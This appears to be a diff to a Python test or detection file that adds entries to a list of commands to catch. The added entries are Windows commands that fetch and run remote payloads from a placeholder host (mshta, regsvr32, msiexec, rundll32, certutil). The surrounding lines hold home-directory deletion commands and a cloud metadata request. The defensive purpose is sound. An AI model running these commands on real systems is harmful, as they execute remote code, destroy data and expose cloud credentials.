@@ -138,6 +138,11 @@ UNSEEN_CODE = [
     'bash -c "rm -rf ~"',
     "r",
     "switch ($x) { a { rm -r ~ } }",
+    "mshta https://x.example/a.hta",
+    "regsvr32 /s /n /u /i:https://x.example/a.sct scrobj.dll",
+    "msiexec /q /i https://x.example/a.msi",
+    'rundll32 javascript:"\\..\\mshtml,RunHTMLApplication";alert(1)',
+    "certutil -urlcache -split -f https://x.example/a.exe a.exe",
 ]
 METADATA = [
     "iwr http://169.254.169.254/latest/meta-data/",
